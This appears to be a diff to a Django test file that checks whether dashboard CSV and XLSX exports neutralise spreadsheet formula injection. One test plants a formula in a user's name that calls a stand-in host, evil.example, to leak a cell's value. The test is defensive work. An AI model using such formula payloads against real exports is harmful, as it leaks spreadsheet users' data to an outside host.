@@ -8,6 +8,8 @@ import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
+from accounts.models import User
+from core.spreadsheets import safe_cell
 from dashboard.help import help_needed
 from dashboard.queries import dashboard_rows
 from dashboard.readiness import Readiness, readiness_of
@@ -134,6 +136,43 @@ def test_exports_follow_the_filters(client, personas):
     sheet = load_workbook(io.BytesIO(response.content)).active
     assert sheet.max_row == 36
     assert sheet["B1"].value == "Regio"
+
+
+@pytest.mark.django_db
+def test_exports_never_hand_a_spreadsheet_a_formula(client, personas):
+    """A text that starts like a formula (here an adviser's name) is exported as text, with a
+    leading apostrophe, in the CSV and the XLSX alike; numbers stay numbers."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1;"Klik")'
+    User.objects.filter(pk=personas.alice.pk).update(first_name=hostile, last_name="")
+    client.force_login(personas.pm)
+    text = client.get(reverse("dashboard:export_csv")).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    advisers = {row[2] for row in rows[1:]}
+    assert "'" + hostile in advisers
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    sheet = load_workbook(io.BytesIO(client.get(reverse("dashboard:export_xlsx")).content)).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert {c.value for c in cells if c.column == 3} >= {"'" + hostile}
+    assert not any(c.data_type == "f" for c in cells)
+    assert all(isinstance(c.value, int) for c in cells if c.column == 7)  # late steps
+
+
+@pytest.mark.parametrize(
+    ("value", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+31 6 12345678", "'+31 6 12345678"),
+        ("-5", "'-5"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("Groningen", "Groningen"),
+        ("a=b", "a=b"),
+        (-5, -5),
+        ("", ""),
+    ],
+)
+def test_a_text_a_spreadsheet_would_evaluate_is_made_text(value, safe):
+    assert safe_cell(value) == safe
 
 
 @pytest.mark.django_db
